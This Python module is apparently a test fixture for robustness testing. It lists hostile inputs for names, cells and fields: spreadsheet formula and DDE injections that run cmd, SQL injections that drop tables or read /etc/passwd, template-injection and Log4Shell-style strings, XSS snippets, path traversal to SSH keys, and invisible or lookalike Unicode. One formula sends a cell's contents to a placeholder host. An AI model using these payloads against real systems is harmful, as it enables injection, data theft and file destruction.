"""What attackers write into names, cells and fields. ``{outside}`` is a folder that nothing may touch."""

FORMULAS = (
    "=cmd|' /C touch {outside}/pwned'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"80")',
    "+2+5+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=WEBSERVICE("http://192.0.2.1/")',
    '=DDE("cmd";"/C touch {outside}/pwned")',
)
SQL = (
    "'; drop table documents; --",
    "'); copy (select 1) to '{outside}/pwned'; --",
    "x' union select content from read_text('/etc/passwd') --",
    "\"; attach '{outside}/pwned.duckdb' as evil; --",
    "' || (select getenv('HOME')) || '",
    "\\'; install httpfs; load httpfs; --",
    "$$; drop table documents; $$",
    "1 or 1=1",
)
TEMPLATES = (
    "{{{{ 7 * 7 }}}}",
    "{{% set x = 1 %}}{{{{ x }}}}",
    "{{{{ run_query(\"copy (select 1) to '{outside}/pwned'\") }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ env_var('HOME') }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{# never closed",
    "${{jndi:ldap://192.0.2.1/a}}",
    "$(touch {outside}/pwned)",
    "`touch {outside}/pwned`",
    "%(name)s %s {{0}} {{name}}",
)
PAGES = (
    "<script>alert(document.domain)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">',
    "<a href='javascript:alert(1)'>80%</a>",
    "</textarea></style></title><script>alert(1)</script>",
    "]]><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
PATHS = (
    "../../../../{outside}/pwned",
    "/etc/passwd",
    "{outside}/pwned",
    "..\\..\\pwned",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "a\x00b",
    "con.txt:stream",
    "*?[a]",
)
UNSEEN = (
    "\u202e%08",
    "Hà\u202e Nội",
    "\u2066Huế\u2069",
    "80\u200f%",
    "\x1b[2J\x1b]0;pwned\x07",
    "\x07\x08\x0c\x85\u2028",
    "\ufeff\u200b\u00ad\u2060",
)
# Names of provinces with letters of other scripts that look alike.
ALIKE = ("Hà Nộі", "Ηà Nội", "Ԁà Nẵng", "Вắc Ninh", "Huе", "Ｈuế", "Cà Маu")
NUMBERS = (
    *("８６,5", "٨٦", "86,5\u202e", "\u202e5,68", "8\u200b6,5", "1e309", "nan", "inf", "-0", "0x50", "1_000"),
    *("9" * 400, "80%%", "8 6", "½", "86,5,5", "1.2.3", "--80", "+-80", "80/0", "=80", "'80", "{{{{80}}}}"),
)
TEXTS = (*FORMULAS, *SQL, *TEMPLATES, *PAGES, *PATHS, *UNSEEN, "a" * 100_000, "ạ̣̣̣̣̣" * 500, "[/red]", "[bold]x")


def filled(payload: str, outside: str) -> str:
    """Return a payload with the folder it is after."""
    return payload.format(outside=outside) if "{" in payload else payload
